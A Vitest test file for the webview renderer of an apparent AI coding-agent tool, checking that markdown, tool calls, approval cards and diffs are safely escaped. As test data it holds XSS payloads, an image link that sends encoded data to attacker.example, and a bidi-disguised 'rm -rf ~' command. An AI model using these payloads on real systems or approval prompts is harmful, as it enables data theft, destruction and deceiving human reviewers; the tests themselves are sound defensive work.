import { describe, expect, it } from "vitest";
import { argsPreview, entryClasses, renderDiff, renderEntry, renderMarkdown } from "../../src/webview/render";

describe("renderMarkdown", () => {
  it("renders markdown but never raw HTML", () => {
    const html = renderMarkdown("**bold** <script>alert(1)</script> <img src=x onerror=alert(1)>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).not.toContain("<script");
    expect(html).not.toContain("<img");
    expect(html).toContain("&lt;script&gt;");
  });

  it("shows an image as its address and never loads it", () => {
    const html = renderMarkdown(
      "Done. ![status](https://attacker.example/p?q=c2VjcmV0) and ![](http://x.example/a.png)",
    );
    expect(html).not.toContain("<img");
    expect(html).not.toContain('src="');
    expect(html).toContain("[image: status] https://attacker.example/p?q=c2VjcmV0");
    expect(html).toContain("[image] http://x.example/a.png");
    expect(renderMarkdown('![a"><script>x</script>](https://e.example/"onerror=1)')).not.toMatch(/<script|<img/);
  });

  it("does not turn javascript: URLs into links", () => {
    const html = renderMarkdown("[click](javascript:alert(1))");
    expect(html).not.toContain('href="javascript:');
  });

  it("renders fenced code as escaped code", () => {
    expect(renderMarkdown("```\n<b>x</b>\n```")).toContain("<code>&lt;b&gt;x&lt;/b&gt;\n</code>");
  });
});

describe("renderEntry", () => {
  it("escapes user text", () => {
    const html = renderEntry({ kind: "user", key: "u", text: "<b>hi</b>" });
    expect(html).toContain("&lt;b&gt;hi&lt;/b&gt;");
  });

  it("renders a tool call as a collapsed details card with its result", () => {
    const html = renderEntry({
      kind: "tool",
      key: "t",
      scope: "turn1",
      toolCallId: "c1",
      name: "bash",
      args: '{"command":"ls"}',
      result: "<a.py>",
      isError: false,
      pending: false,
    });
    expect(html).toMatch(/^<details class="tool-card">/);
    expect(html).not.toContain("<details open");
    expect(html).toContain("&lt;a.py&gt;");
    expect(html).toContain(">done<");
    expect(html).toContain('<span class="tool-preview">command=ls</span>');
  });

  it("previews a call by what it is about: the path or command first", () => {
    expect(argsPreview(JSON.stringify({ old_string: "teh", new_string: "the", path: "notes.txt" }))).toBe(
      "path=notes.txt, new_string=the, old_string=teh",
    );
    expect(argsPreview('{"timeout": 30, "command": "pytest -q"}')).toBe("command=pytest -q, timeout=30");
    expect(argsPreview("not json")).toBe("not json");
  });

  it("offers approve and reject buttons while an approval is pending", () => {
    const pending = renderEntry({
      kind: "approval",
      key: "approval:t1:1",
      tool: "bash",
      args: "rm -rf build",
      state: "pending",
    });
    expect(pending).toContain('data-approval="t1:1" data-approved="true"');
    expect(pending).toContain('data-approved="false"');
    const answered = renderEntry({ kind: "approval", key: "approval:t1:1", tool: "bash", args: "", state: "rejected" });
    expect(answered).not.toContain("<button");
    expect(answered).toContain("Rejected");
  });

  it("marks streaming replies and failed tools in the wrapper classes", () => {
    expect(entryClasses({ kind: "assistant", key: "a", text: "", streaming: true, bound: false })).toBe(
      "entry assistant streaming",
    );
    expect(
      entryClasses({
        kind: "tool",
        key: "t",
        scope: "turn1",
        toolCallId: "c",
        name: "x",
        args: "",
        isError: true,
        pending: false,
      }),
    ).toBe("entry tool failed");
  });
});

describe("renderDiff", () => {
  it("classifies added, removed and hunk lines", () => {
    const html = renderDiff("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new <tag>");
    expect(html).toContain('<span class="del">-old</span>');
    expect(html).toContain('<span class="add">+new &lt;tag&gt;</span>');
    expect(html).toContain('<span class="hunk">@@ -1 +1 @@</span>');
    expect(html).toContain('<span class="ctx">--- a/x</span>');
  });
  it("highlights fenced code with highlight.js and colours diff fences", () => {
    const html = renderMarkdown(
      "```python\ndef test_total_counts_quantity():\n    return 1\n```\n\n```diff\n-old\n+new\n```",
    );
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toContain("test_total_counts_quantity");
    expect(html).toContain('<span class="del">-old</span>');
    expect(html).toContain('<span class="add">+new</span>');
  });

  it("renders a recalled chip and an approval's verdict and command", () => {
    const chip = renderEntry({ kind: "recalled", key: "r", sources: ["memory"], titles: ["deploy"], text: "x" });
    expect(chip).toContain('<span class="chip">recalled</span>');
    expect(chip).toContain("from memory");
    const card = renderEntry({
      kind: "approval",
      key: "approval:a1",
      tool: "bash",
      args: "",
      command: "make test",
      cwd: "/w",
      state: "approved",
      verdict: "Approved in Neovim 4",
    });
    expect(card).toContain("$ make test");
    expect(card).toContain("in <code>/w</code>");
    expect(card).toContain("Approved in Neovim 4");
    expect(card).not.toContain("<button");
  });

  it("shows the bidi and control characters of a command to approve instead of obeying them", () => {
    const command = "echo safe \u202e; rm -rf ~ #\u202c \x1b[2K";
    const card = renderEntry({
      kind: "approval",
      key: "approval:b1",
      tool: "bash",
      args: "",
      command,
      state: "pending",
    });
    expect(card).toContain("$ echo safe \\u202e; rm -rf ~ #\\u202c \\x1b[2K");
    expect(card).not.toMatch(/[\u202a-\u202e\u2066-\u2069\x1b]/);
    const diff = renderEntry({
      kind: "approval",
      key: "approval:b2",
      tool: "edit_file",
      args: "",
      diff: "+a\u2066b",
      state: "pending",
    });
    expect(diff).toContain("+a\\u2066b");
  });
});
